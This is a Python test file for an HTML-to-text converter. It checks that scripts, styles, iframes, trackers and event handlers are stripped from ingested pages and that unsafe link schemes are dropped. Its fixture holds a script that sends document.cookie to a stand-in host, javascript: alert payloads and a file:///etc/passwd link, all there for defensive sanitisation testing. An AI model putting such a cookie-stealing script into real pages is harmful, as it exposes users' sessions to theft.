from desktop.ingest.document import prepare
from desktop.ingest.html_text import html_to_text

HOSTILE = """<!doctype html><html><head><title>Report &amp; findings</title>
<script>fetch('https://evil.example/'+document.cookie)</script>
<style>body{background:url(https://tracker.example/p.gif)}</style></head>
<body><nav>Home | About</nav><h1>Land   evictions</h1>
<p>Families in <b>Phnom Penh</b> were evicted.<br>Second line.</p>
<img src="https://tracker.example/pixel.gif" alt="Protest photo">
<iframe src="https://ads.example/"></iframe>
<p onclick="alert(1)">ខេមរា&nbsp;text</p></body></html>"""


def test_scripts_styles_frames_and_navigation_are_dropped():
    text, title = html_to_text(HOSTILE)
    assert title == "Report & findings"
    for bad in ("fetch", "cookie", "background", "tracker", "ads.example", "Home | About", "alert"):
        assert bad not in text
    assert "Land evictions" in text
    assert "Families in Phnom Penh were evicted.\nSecond line." in text
    assert "Protest photo" in text
    assert "ខេមរា\u00a0text" in text


def test_prepare_keeps_the_html_original_verbatim():
    prepared = prepare(HOSTILE, "html")
    assert prepared.original == HOSTILE
    assert prepared.title_hint == "Report & findings"
    assert "<script>" not in prepared.text


def test_web_links_keep_their_address_and_others_are_dropped():
    text, _ = html_to_text(
        '<p><a href="https://www.ohchr.org/report">the report</a>, '
        '<a href="javascript:alert(1)">click</a>, <a href="file:///etc/passwd">passwords</a>, '
        '<a href="https://x.org">https://x.org</a></p>'
    )
    assert text == "the report (https://www.ohchr.org/report), click, passwords, https://x.org"


def test_a_broken_marked_section_is_text_not_a_crash():
    text, _ = html_to_text("<p>Before</p><![OCTYPE x]><p>After</p>")
    assert "Before" in text and "After" in text
